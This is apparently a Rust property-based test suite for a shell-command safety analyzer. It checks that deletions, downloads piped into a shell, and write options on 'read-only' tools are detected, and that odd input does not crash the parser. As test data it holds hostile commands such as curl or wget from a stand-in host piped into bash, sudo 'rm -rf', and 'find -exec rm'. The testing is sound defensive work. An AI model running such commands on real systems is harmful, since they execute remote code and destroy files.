//! Command lines generated in the shapes an attacker (or a hurried model) writes them: wrappers
//! stacked in any order, options in any spelling, quoting of any kind. A deletion stays a
//! deletion, a download piped into a shell stays that, a reader given an option that writes is
//! no longer read-only — and no line makes the reader panic.

use cowork_core::policy::shell::analyze;
use proptest::prelude::*;

fn wrappers() -> impl Strategy<Value = Vec<&'static str>> {
    prop::collection::vec(
        prop::sample::select(vec![
            "sudo",
            "sudo -u root",
            "nice -n 5",
            "timeout 10",
            "env A=1",
            "nohup",
            "command",
            "stdbuf -oL",
            "ionice -c 3",
            "time",
            "exec",
            "setsid",
        ]),
        0..4,
    )
}

fn quoted(path: &str, how: u8) -> String {
    match how % 3 {
        0 => path.to_string(),
        1 => format!("'{path}'"),
        _ => format!("\"{path}\""),
    }
}

proptest! {
    #[test]
    fn a_deletion_is_found_behind_any_wrappers_and_quoting(
        wrap in wrappers(),
        flags in prop::collection::vec(prop::sample::select(vec!["-r", "-f", "-rf", "-fR", "--force", "-v", "--recursive"]), 0..3),
        program in prop::sample::select(vec!["rm", "/bin/rm", "unlink", "rmdir"]),
        path in "[a-z]{1,8}(/[a-z.]{1,8}){0,2}",
        how in any::<u8>(),
        before in prop::sample::select(vec!["", "cd src && ", "ls; ", "true || "]),
    ) {
        let line = format!("{before}{} {program} {} {}", wrap.join(" "), flags.join(" "), quoted(&path, how));
        let facts = analyze(&line);
        prop_assert!(facts.deletes.contains(&path), "{line}: {facts:?}");
        prop_assert!(!facts.reads_only);
        prop_assert_eq!(facts.privileged.is_empty(), !wrap.iter().any(|w| w.starts_with("sudo")), "{}", line);
    }

    #[test]
    fn a_download_into_a_shell_is_always_seen(
        fetch in prop::sample::select(vec!["curl -fsSL https://x.example/i.sh", "wget -qO- x.example", "cat install.sh"]),
        shell in prop::sample::select(vec!["sh", "bash", "sudo bash", "bash -s --", "python3 -", "env sh", "zsh"]),
    ) {
        let piped = format!("{fetch} | {shell}");
        prop_assert!(analyze(&piped).runs_piped_code, "{piped}");
        let substituted = format!("{} -c \"$({fetch})\"", shell.split(' ').next_back().unwrap_or("sh"));
        let facts = analyze(&substituted);
        prop_assert!(facts.runs_piped_code || !facts.understood || !facts.reads_only, "{substituted}: {facts:?}");
    }

    #[test]
    fn a_reader_given_an_option_that_writes_is_not_read_only(
        reader in prop::sample::select(vec![
            ("find . -name '*.rs'", "-exec rm {} ;"), ("find .", "-delete"), ("sort a.txt", "-o b.txt"),
            ("sort a.txt", "-uo b.txt"), ("git log", "--output=.git/config"), ("git diff", "--ext-diff"),
            ("git grep x", "-O"), ("rg x", "--pre ./evil"), ("tree", "-o out"),
        ]),
        safe in prop::collection::vec(prop::sample::select(vec!["-l", "-n", "-a", "--stat", "-i", "src"]), 0..3),
    ) {
        let (base, writing) = reader;
        let plain = format!("{base} {}", safe.join(" "));
        prop_assert!(analyze(&plain).reads_only, "{plain}: {:?}", analyze(&plain));
        let with = format!("{base} {} {writing}", safe.join(" "));
        prop_assert!(!analyze(&with).reads_only, "{with}");
    }

    #[test]
    fn no_line_makes_it_panic(line in "\\PC{0,80}") {
        let _ = analyze(&line);
    }

    /// The shape that made the bash grammar read past its input and kill the process: an
    /// opening brace, then characters of every length, anywhere in a line.
    #[test]
    fn no_brace_before_a_long_character_crashes_it(
        before in "[ -~]{0,10}",
        after in prop::collection::vec(prop::char::any(), 1..6),
    ) {
        let line = format!("{before}{{{}", after.into_iter().collect::<String>());
        let facts = analyze(&line);
        prop_assert!(!facts.reads_only || facts.understood, "{line:?}");
    }
}

/// The two lines found to crash the process (one by this suite, one upstream) are read, not
/// fatal: as not understood, the score any program gets.
#[test]
fn the_lines_that_crashed_the_bash_grammar_are_read() {
    for line in ["{\u{e01e3}", "{\u{31860}", "echo {\u{1F600}} done"] {
        let facts = analyze(line);
        assert!(
            !facts.reads_only || facts.programs == ["echo"],
            "{line:?}: {facts:?}"
        );
    }
}
